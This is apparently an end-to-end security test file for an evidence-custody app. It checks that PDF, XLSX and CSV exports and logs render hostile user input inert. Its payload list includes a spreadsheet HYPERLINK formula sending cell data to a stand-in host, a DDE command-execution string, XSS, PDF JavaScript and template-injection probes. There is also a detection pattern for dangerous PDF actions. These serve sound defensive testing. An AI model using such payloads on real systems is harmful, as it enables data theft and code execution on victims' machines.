import { inflateSync } from 'node:zlib';
import exceljs from 'exceljs';
import pdfkit from 'pdfkit';
import { buffer } from 'node:stream/consumers';
import type { HandOverAnswer, Place } from '../../libs/custody/src/contract.js';
import type { ListExport } from '../../libs/lists/src/contract.js';
import { FORMULA } from '../../libs/platform/src/index.js';
import { done } from '../e2e/support/client.js';
import type { Person } from '../e2e/support/people.js';
import { startRunningOffice, type RunningOffice } from '../e2e/support/running-office.js';
import { aCar, openCase, seizeOne } from '../e2e/support/story.js';
import { aSignatureImage } from '../../libs/custody/testing/signature-images.js';

/** T22: what people typed leaves Zegel as text, in whatever it leaves. The cells of tables are tried sign by sign in libs/lists. */

const MEAN = [
  '=HYPERLINK("https://elders.example/?a="&A1;"klik")', '+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '＝1+1', '-2+3', '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'https://elders.example/klik', ') /AA << /JS (app.alert(1)) >> (', '{{7*7}} ${7*7} <%= 7*7 %>',
] as const;

let office: RunningOffice;
let lead: Person;
let keeper: Person;
let itemIds: readonly string[];
let shelf: string;

beforeAll(async () => {
  office = await startRunningOffice();
  [lead, keeper] = [await office.enrol('prosecutor'), await office.enrol('custodian')];
  const caseId = (await openCase(lead.client, { unitId: office.unitId, leadId: lead.id, title: MEAN[0] })).id;
  const ids: string[] = [];
  for (const description of MEAN) ids.push(await seizeOne(lead.client, caseId, aCar({ description })));
  itemIds = ids;
  const site = (await done(keeper.client.post<Place>('/places', { kind: 'site', name: MEAN[5], custodianId: keeper.id }))).id;
  shelf = (await done(keeper.client.post<Place>('/places', { kind: 'shelf', name: MEAN[7], parentId: site }))).id;
});

afterAll(() => office.stop());

/** Whatever in a PDF does something or leads elsewhere, also inside its compressed parts. */
function livePartsOf(pdf: Buffer): readonly string[] {
  const raw = pdf.toString('latin1');
  const streams = [...raw.matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)].map(([, packed = '']) => {
    try {
      return inflateSync(Buffer.from(packed, 'latin1')).toString('latin1');
    } catch {
      return '';
    }
  });
  // Words on a page are drawn, in brackets or as hexadecimal: what counts is what stands outside of them.
  const structure = raw.replaceAll(/stream\r?\n[\s\S]*?\r?\nendstream/g, '').replaceAll(/\((?:\\.|[^\\()])*\)/g, '()');
  const packedObjects = streams.filter((text) => /\/Type\s*\/(?:Annot|Action|Catalog)\b/.test(text));
  return [structure, ...packedObjects].flatMap((text) => [...text.matchAll(/\/(JavaScript|JS|URI|Launch|GoToR|SubmitForm|EmbeddedFile|OpenAction|AA|RichMedia)\b/g)].map(([, name = '']) => name));
}

async function pdfOf(path: string, body?: unknown): Promise<Buffer> {
  const answer = await fetch(`${office.url}/api/v1${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: { ...keeper.client.headers, 'x-requested-with': 'zegel', 'idempotency-key': `labels-${Date.now()}`, ...(body !== undefined && { 'content-type': 'application/json' }) },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  expect([answer.status, answer.headers.get('content-type'), answer.headers.get('content-disposition')?.startsWith('attachment')]).toEqual([200, 'application/pdf', true]);
  return Buffer.from(await answer.arrayBuffer());
}

it('a label and a receipt hold words and nothing that acts or leads elsewhere', async () => {
  const partner = (await done(keeper.client.post<Place>('/places', { kind: 'partner', name: MEAN[6] }))).id;
  const [itemId = ''] = itemIds;
  await done(keeper.client.post('/moves', { toPlaceId: shelf, movedAt: new Date().toISOString(), items: [{ itemId, fromPlaceId: null }] }));
  const { id } = await done(
    keeper.client.post<HandOverAnswer & { id: string }>('/hand-overs', {
      toPlaceId: partner,
      handedAt: new Date().toISOString(),
      items: [{ itemId, fromPlaceId: shelf, condition: 'good' }],
      taker: { name: 'A. Jansen' },
      giverSignature: { image: aSignatureImage() },
      takerSignature: { typed: 'A. Jansen', confirmed: true },
    }),
  );

  const [labels, receipt] = [await pdfOf('/labels', { itemIds, placeIds: [shelf], layout: 'sheet' }), await pdfOf(`/hand-overs/${id}/receipt`)];

  expect([labels, receipt].map((pdf) => livePartsOf(pdf))).toEqual([[], []]);
});

it('finds a link and a script in a PDF that has them', async () => {
  const planted = new pdfkit();
  planted.text('klik', { link: MEAN[6] });
  planted.addNamedJavaScript('planted', 'app.alert(1)');
  planted.end();

  expect(new Set(livePartsOf(await buffer(planted)))).toEqual(new Set(['URI', 'JavaScript', 'JS']));
});

it('no cell of a list is run by who opens it', async () => {
  const exported = async (format: string): Promise<Buffer> => {
    const { id } = await done(lead.client.post<ListExport>('/list-exports', { list: 'items', format, columns: ['reference', 'description'] }));
    return Buffer.from(await (await fetch(`${office.url}/api/v1/list-exports/${id}/content`, { headers: lead.client.headers })).arrayBuffer());
  };
  const workbook = new exceljs.Workbook();
  await workbook.xlsx.load((await exported('xlsx')) as unknown as exceljs.Buffer);
  const cells: exceljs.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
  const csv = (await exported('csv')).toString('utf8').split('\r\n').flatMap((line) => line.split(';')).map((cell) => cell.replaceAll(/^"|"$/g, ''));

  expect(cells.filter(({ formula, hyperlink }) => formula !== undefined || hyperlink !== undefined)).toEqual([]);
  expect(MEAN.filter((text) => !cells.some(({ value }) => value === text))).toEqual([]);
  expect(csv.filter((cell) => FORMULA.test(cell) && !cell.startsWith("'"))).toEqual([]);
  expect(csv.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(5);
});

it('one event is one line of the log, whatever stands in an address or a header', async () => {
  const before = office.app.api.output.length;
  await fetch(`${office.url}/api/v1/none%0d%0a%7B%22level%22:60%7D`, { headers: lead.client.headers });
  await lead.client.post('/cases/search', { text: 'x\r\n{"level":60,"msg":"planted"}' }, { headers: { 'x-purpose': 'x%0d%0a{"level":60}' } });

  const lines = office.app.api.output.slice(before).split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as { level?: number });
  expect(lines.filter(({ level }) => level === 60)).toEqual([]);
});
